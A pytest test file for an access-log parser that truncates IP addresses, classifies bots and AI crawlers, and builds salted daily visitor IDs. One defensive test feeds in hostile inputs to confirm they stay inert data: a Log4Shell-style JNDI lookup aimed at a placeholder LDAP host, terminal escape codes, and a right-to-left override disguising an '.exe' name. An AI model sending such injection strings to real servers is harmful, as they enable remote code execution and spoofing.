"""What becomes of the columns of an access log: addresses, agents, texts of strangers, visitors."""

from __future__ import annotations

import pytest

from legation.errors import BadValue
from legation.sources.observations import access_log
from legation.sources.observations.access_log.rows import harmless, network
from legation.sources.observations.tables import TABLES

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
GPTBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"
COMBINED = f'203.0.113.9 - - [17/May/2024:12:05:03 +0200] "GET /visa?lang=fr HTTP/1.1" 200 5120 "https://example.org/a?q=1" "{FIREFOX}"'


@pytest.fixture
def write(tmp_path):
    def wrote(text, name="access.log"):
        place = tmp_path / name
        place.write_bytes(text.encode() if isinstance(text, str) else text)
        return place

    return wrote


@pytest.mark.parametrize(
    ("raw", "cut"),
    [
        (b"203.0.113.200", "203.0.113.0/24"),
        (b"203.0.113.200:51000", "203.0.113.0/24"),
        (b"2001:db8:aa:bb::1", "2001:db8:aa::/48"),
        (b"[2001:db8:aa:bb::1]:443", "2001:db8:aa::/48"),
        (b"fe80::1%eth0", "fe80::/48"),
        (b"::ffff:203.0.113.200", "203.0.113.0/24"),
        (b"64:ff9b::203.0.113.200", "203.0.113.0/24"),
        (b"dialup-7.example.net", None),
        (b"203.0.113.300", None),
        (b"203.0.113", None),
        (b"01.2.3.4", None),
        (b"203.0.113.9.7", None),
        (b"unix:", None),
    ],
)
def test_an_address_is_cut_to_its_network(write, raw: bytes, cut: str | None) -> None:
    place = write(COMBINED.encode().replace(b"203.0.113.9", raw))

    assert network(raw) == cut
    assert access_log.read(place, "combined").table["address"].to_pylist() == [cut]


def test_unnamed_agents_and_bots_are_told_from_people(write) -> None:
    agents = (
        FIREFOX,
        GPTBOT,
        "-",
        "",
        "curl/8.5.0",
        "SomethingBot/1",
        "Mozilla/5.0 (Linux; Android 14; CUBOT P80) AppleWebKit/537.36 Chrome/126",
    )
    text = "".join(COMBINED.replace(FIREFOX, agent) + "\n" for agent in agents)

    bots = access_log.read(write(text)).table["bot"].to_pylist()

    assert bots == [None, "GPTBot", "unnamed", "unnamed", "curl", "other bot", None]
    assert [access_log.bot_kind(bot) for bot in bots] == [None, "ai", "other", "other", "library", "other", None]


@pytest.mark.parametrize(
    ("token", "kind"),
    [
        (name, "ai")
        for name in (
            "ChatGPT-User",
            "OAI-SearchBot",
            "ClaudeBot",
            "anthropic-ai",
            "PerplexityBot",
            "Perplexity-User",
            "CCBot",
            "Bytespider",
        )
    ]
    + [
        (name, "ai")
        for name in (
            "Amazonbot",
            "Applebot-Extended",
            "Meta-ExternalAgent",
            "FacebookBot",
            "cohere-ai",
            "Diffbot",
            "YouBot",
            "DuckAssistBot",
        )
    ]
    + [
        ("Googlebot", "search"),
        ("Applebot", "search"),
        ("AhrefsBot", "seo"),
        ("UptimeRobot", "monitor"),
        ("Feedly", "feed"),
        ("Twitterbot", "preview"),
    ],
)
def test_a_family_is_found_by_its_name(token: str, kind: str) -> None:
    assert access_log.bot_family(f"Mozilla/5.0 (compatible; {token}/1.0)") == token
    assert access_log.bot_kind(token) == kind


def test_people_are_no_bots() -> None:
    for agent in (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0",
        "Opera/9.80 (X11; Linux x86_64) Presto/2.12.388 Version/12.16",
        "Links (2.7; Linux; text)",
    ):
        assert access_log.bot_family(agent) is None


def test_what_strangers_send_stays_data(write) -> None:
    text = COMBINED.encode()
    lines = [
        text.replace(b"/visa?lang=fr", b"/\x1b[31mred\x00"),
        text.replace(b"/visa?lang=fr", b"/\\x1b[31m"),
        text.replace(FIREFOX.encode(), b"${jndi:ldap://x.example/a}"),
        text.replace(b"/visa?lang=fr", "/\u202egnp.exe".encode()),
        text.replace(b"/visa?lang=fr", b"/\xa5\xb0caf\xc3\xa9"),
        text.replace(b"https://example.org/a?q=1", b"https://ann:secret@example.org/a#b"),
        text.replace(b"/visa?lang=fr", b"/" + b"a" * 5_000),
        text.replace(FIREFOX.encode(), b'say \\"x\\"'),
    ]
    found = access_log.read(write(b"\n".join(lines)))
    rows = found.table.to_pylist()

    assert [row["path"] for row in rows[:2]] == ["/%1B[31mred%00", "/%1B[31m"]
    assert (rows[2]["agent"], rows[2]["bot"]) == ("${jndi:ldap://x.example/a}", "probe")
    assert (rows[3]["path"], rows[4]["path"]) == ("/%E2%80%AEgnp.exe", "/%A5%B0café")
    assert rows[5]["referrer"] == "https://example.org/a"
    assert (len(rows[6]["path"]), [one.code for one in found.doubts]) == (2_048, ["log-path-cut"])
    assert rows[7]["agent"] == 'say "x"'
    assert harmless(b"\xff" * 10, longest=4) == "%FF%"


def test_requests_that_are_none_are_kept_without_a_method(write) -> None:
    asked = ("-", r"\x16\x03\x01", "GET /old", "GET /a b HTTP/1.0", "PRI * HTTP/2.0")
    text = "\n".join(COMBINED.replace("GET /visa?lang=fr HTTP/1.1", one) for one in asked)

    rows = access_log.read(write(text)).table.select(["method", "path"]).to_pylist()

    assert [tuple(row.values()) for row in rows] == [(None, None), (None, "%16%03%01"), ("GET", "/old"), ("GET", "/a b"), ("PRI", "*")]


def test_a_visitor_is_known_for_a_day_and_by_the_salt_alone(write) -> None:
    other_day = COMBINED.replace("17/May", "18/May")
    lines = [
        COMBINED,
        COMBINED.replace("/visa", "/x"),
        COMBINED.replace("203.0.113.9", "203.0.113.8"),
        COMBINED.replace("203.0.113.9", "::ffff:203.0.113.9"),
        other_day,
    ]
    place = write("\n".join([*lines, COMBINED.replace(FIREFOX, "curl/8"), COMBINED.replace("203.0.113.9", "-")]))

    found = access_log.read(place, salt=lambda day: day.isoformat().encode())
    one, again, neighbour, mapped, later, tool, nobody = found.table["visitor"].to_pylist()

    assert found.table.column_names == [*TABLES["requests"].columns, "visitor"]
    assert one == again == mapped
    assert len({one, neighbour, later, tool}) == 4
    assert nobody is None
    assert len(one) == 16
    assert access_log.read(place, salt=lambda day: b"x" * 80 + bytes(str(day), "ascii")).table["visitor"][0].as_py() != one
    with pytest.raises(BadValue):
        access_log.read(place, salt=lambda day: b"")
